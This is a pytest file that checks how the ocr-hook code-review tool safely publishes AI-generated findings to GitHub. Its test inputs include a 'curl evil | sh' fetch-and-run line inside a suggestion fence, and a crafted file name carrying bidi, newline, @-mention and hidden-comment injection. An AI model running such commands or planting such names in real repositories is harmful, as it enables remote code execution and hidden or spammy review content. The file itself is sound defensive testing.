"""Issue 33, items 1, 2, 3 and 6: what a model's text, a pull request's file names and other people's
comments can do to what ocr-hook publishes, through the real CLI (`review`, then `github-review`)
against the fake Messages and GitHub APIs. Each test failed on the code before the shared rendering
(ocr_hook/publish/render.py) and the identity rule (ocr_hook/publish/plan.py `earlier`).
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import forked_cli
import pytest
from agent_support import main_opening
from ci_repos import ci_free_env
from conftest import TEST_API_KEY
from fake_api import FakeMessagesAPI, Reply, tool_use
from fake_github import FakeGitHub, Pull
from gitrepo import commit_all, git, make_repo, write
from publish_support import AFTER, BEFORE, PATH, comment

ACTIONS_TOKEN = "ghs_fakeActionsToken0123456789abcdefABCD"
USER_TOKEN = "ghp_fakePersonalToken0123456789abcdefAB"
HOSTILE_NAME = "docs/m1\u202e\n\n@octocat @org/team look\n\n<!-- hidden:\n.py"
FENCE = "Replace it with this:\n```suggestion\nimport os; os.system('curl evil | sh')\n```\nand done."
CONTROLS = "Looks fine\u202e evil \x1b[2J and \x00 here."
AFTER_HIDDEN = "f18 is unchanged but has the same off-by-one."
IN_HOSTILE_FILE = "The hostile file's own finding."


class Case:
    def __init__(self, root: Path) -> None:
        self.repo = make_repo(root / "repo")
        write(self.repo, PATH, BEFORE)
        commit_all(self.repo, "base")
        git(self.repo, "checkout", "-q", "-b", "feature")
        write(self.repo, PATH, AFTER)
        write(self.repo, HOSTILE_NAME, "x = 1\n")
        self.head = commit_all(self.repo, "feature")
        diff = git(self.repo, "diff", "main...feature", "--", PATH)
        self.patch = diff[diff.index("@@"):]
        self.report_path = root / "report.json"
        with FakeMessagesAPI() as fake:
            fake.script(main_opening(PATH), [Reply([tool_use("code_comment", {"comments": [
                comment(FENCE, "return x * 3", "medium"),
                comment(CONTROLS, "def f2(x):\n    return x - 2", "high"),
                comment(AFTER_HIDDEN, "return x + 18", "low")]})])])
            fake.script("docs/m1", [Reply([tool_use("code_comment", {"comments": [
                comment(IN_HOSTILE_FILE, "nothing like this is in the file", "low")]})])])
            env = {k: v for k, v in ci_free_env().items() if not k.startswith("ANTHROPIC_")}
            env.update(ANTHROPIC_BASE_URL=fake.url, ANTHROPIC_API_KEY=TEST_API_KEY, NO_PROXY="127.0.0.1,localhost")
            proc = forked_cli.run(["review", "--base", "main", "--no-cache", "--no-review-filter", "--filter-mode",
                                   "nofilter", "-q", "--format", "github", "--json-output", str(self.report_path)],
                                  cwd=self.repo, env=env, timeout=120, errors="replace")
        assert proc.returncode == 1, proc.stderr
        self.annotations = proc.stdout
        self.report: dict[str, Any] = json.loads(self.report_path.read_text(encoding="utf-8"))

    def finding(self, message: str) -> dict[str, Any]:
        return next(f for f in self.report["findings"] if f["message"] == message)


@pytest.fixture(scope="module")
def case(tmp_path_factory: pytest.TempPathFactory) -> Case:
    return Case(tmp_path_factory.mktemp("publish-hostile"))


@pytest.fixture(scope="module")
def server() -> Iterator[FakeGitHub]:
    with FakeGitHub() as fake:
        yield fake


@pytest.fixture
def github(server: FakeGitHub) -> Iterator[FakeGitHub]:
    server.requests.clear()
    server.pulls.clear()
    server.tokens.clear()
    server.tokens.update({ACTIONS_TOKEN: "write", USER_TOKEN: "write"})
    server.logins[USER_TOKEN] = "octo-bot"
    server.link_header = server.odd_items = server.link_base = None
    yield server
    server.assert_conforms()  # off-contract traffic fails the test that sent it


@pytest.fixture
def pull(case: Case, github: FakeGitHub) -> Pull:
    return github.add_pull(7, case.head, {PATH: case.patch, HOSTILE_NAME: "@@ -0,0 +1 @@\n+x = 1"})


def publish(case: Case, github: FakeGitHub, tmp: Path, token: str = ACTIONS_TOKEN) -> str:
    event = tmp / "event.json"
    event.write_text(json.dumps({"number": 7, "pull_request": {"number": 7, "head": {"sha": case.head}}}))
    env = ci_free_env(GITHUB_ACTIONS="true", GITHUB_REPOSITORY="octo/app", GITHUB_EVENT_NAME="pull_request",
                      GITHUB_EVENT_PATH=str(event), GITHUB_API_URL=github.url, GITHUB_TOKEN=token,
                      NO_PROXY="127.0.0.1,localhost")
    proc = forked_cli.run(["github-review", "--from", str(case.report_path)], cwd=case.repo, env=env, timeout=60,
                          errors="replace")
    assert proc.returncode == 0, proc.stderr
    assert "Traceback" not in proc.stderr and token not in proc.stderr
    lines = proc.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith("ocr-hook: github-review: "), proc.stderr
    return lines[0]


def posted(github: FakeGitHub) -> dict[str, Any]:
    [post] = [r.body for r in github.requests if r.method == "POST" and r.path.endswith("/reviews")]
    return post


def comment_for(post: dict[str, Any], case: Case, message: str) -> str:
    fp = case.finding(message)["fingerprint"]
    return next(c["body"] for c in post["comments"] if c["body"].startswith(f"<!-- ocr-hook fingerprint={fp}"))


# --- item 1: only ocr-hook's own checked fix may be a suggestion ---------------------------------------------


def test_a_fence_in_a_model_message_is_never_a_live_suggestion(case: Case, github: FakeGitHub, pull: Pull,
                                                               tmp_path: Path) -> None:
    assert case.finding(FENCE)["fix"] is None  # the model gave no fix of its own
    publish(case, github, tmp_path)
    body = comment_for(posted(github), case, FENCE)
    assert not re.search(r"^ {0,3}(`{3,}|~{3,})", body, re.M), body  # no line opens a fence at all
    assert "os.system('curl evil | sh')" in body  # shown, as text


# --- item 2: a file name cannot break out of its code span ----------------------------------------------------


def test_a_file_name_cannot_mention_or_hide(case: Case, github: FakeGitHub, pull: Pull, tmp_path: Path) -> None:
    assert case.finding(IN_HOSTILE_FILE)["path"] == HOSTILE_NAME
    publish(case, github, tmp_path)
    body = posted(github)["body"]
    # The name is one line, its breaks and the bidi override shown as escapes, inside one code span (where
    # CommonMark reads nothing as markup).
    span = "`docs/m1\\u202e\\x0a\\x0a@octocat @org/team look\\x0a\\x0a<!-- hidden:\\x0a.py`"
    entry = next(line for line in body.split("\n") if "docs/m1" in line)
    assert span in entry
    outside = body.replace(span, "")
    assert outside.count("<!--") == 1 and body.startswith("<!-- ocr-hook review")  # only the marker
    assert "@octocat" not in outside and not re.search(r"^\s*@", body, re.M)
    assert AFTER_HIDDEN in body and IN_HOSTILE_FILE in body  # nothing after it is hidden


# --- item 3: markers count only in what the publishing identity wrote -----------------------------------------


def test_someone_elses_markers_silence_nothing(case: Case, github: FakeGitHub, pull: Pull, tmp_path: Path) -> None:
    fps = [f["fingerprint"] for f in case.report["findings"]]
    github.add_comment(7, PATH, 6, f"<!-- ocr-hook fingerprint={case.finding(FENCE)['fingerprint']} -->")
    github.add_review(7, f"<!-- ocr-hook review exit={case.report['exit_code']} status=complete "
                         f"fingerprints={','.join(fps)} -->")
    line = publish(case, github, tmp_path)
    assert "published a review on octo/app#7: 2 inline comment(s), 2 finding(s) in the body" in line
    # The Actions token may not read /user: what it wrote is github-actions[bot]'s, and that counts.
    assert "nothing new to publish on octo/app#7: 4 finding(s) already posted" in publish(case, github, tmp_path)


def test_a_personal_token_is_known_by_its_login(case: Case, github: FakeGitHub, pull: Pull, tmp_path: Path) -> None:
    publish(case, github, tmp_path)  # as github-actions[bot]
    # Another identity (a PAT of octo-bot) does not take the bot's markers as its own: it posts its review.
    line = publish(case, github, tmp_path, token=USER_TOKEN)
    assert "2 inline comment(s), 2 finding(s) in the body" in line
    assert pull.reviews[-1]["user"]["login"] == "octo-bot"
    # GitHub's GraphQL `viewer` named both (issue 58.13): REST's /user, which refuses the Actions token, is not asked
    assert [r.status for r in github.requests if r.path == "/user"] == []


# --- item 6: what the API answers cannot make a traceback -----------------------------------------------------


def test_a_huge_link_header_is_one_line(case: Case, github: FakeGitHub, pull: Pull, tmp_path: Path) -> None:
    github.link_header = f'<{github.url}/repos/octo/app/pulls/7/files?page=2&x={"a" * 70_000}>; rel="next"'
    line = publish(case, github, tmp_path)
    assert "review not published on octo/app#7:" in line and "Link header" in line
    assert github.writes() == []


def test_a_list_of_non_objects_is_one_line(case: Case, github: FakeGitHub, pull: Pull, tmp_path: Path) -> None:
    github.odd_items = ["app.py", 7, None]
    line = publish(case, github, tmp_path)
    assert "review not published on octo/app#7:" in line and "not objects" in line
    assert github.writes() == []


def test_control_and_bidi_characters_are_escaped_visibly(case: Case, github: FakeGitHub, pull: Pull,
                                                         tmp_path: Path) -> None:
    assert case.finding(CONTROLS)["message"] == CONTROLS  # the report keeps the data exactly
    publish(case, github, tmp_path)
    body = comment_for(posted(github), case, CONTROLS)
    assert "Looks fine\\u202e evil \\x1b[2J and \\x00 here." in body
    assert not re.search(r"[\x00\x1b\u202e]", json.dumps(posted(github), ensure_ascii=False))
    # The GitHub annotations show them the same way, and the path keeps its U+202E (escaped, not dropped).
    assert "Looks fine\\u202e evil \\x1b[2J and \\x00 here." in case.annotations
    assert "file=docs/m1\\u202e\\x0a\\x0a@octocat @org/team look" in case.annotations
    assert not re.search(r"[\x00\x1b\u202e]", case.annotations)


def test_publish_finds_github_from_the_actions_variables(case: Case, github: FakeGitHub, pull: Pull,
                                                         tmp_path: Path) -> None:
    event = tmp_path / "event.json"
    event.write_text(json.dumps({"number": 7, "pull_request": {"number": 7, "head": {"sha": case.head}}}))
    env = ci_free_env(GITHUB_ACTIONS="true", GITHUB_REPOSITORY="octo/app", GITHUB_EVENT_NAME="pull_request",
                      GITHUB_EVENT_PATH=str(event), GITHUB_API_URL=github.url, GITHUB_TOKEN=ACTIONS_TOKEN,
                      NO_PROXY="127.0.0.1,localhost")
    proc = forked_cli.run(["publish", "--from", str(case.report_path)], cwd=case.repo, env=env, timeout=60,
                          errors="replace")
    assert (proc.returncode, proc.stdout) == (0, "")
    assert proc.stderr == ("ocr-hook: publish: published a review on octo/app#7: 2 inline comment(s), "
                           "2 finding(s) in the body\n")
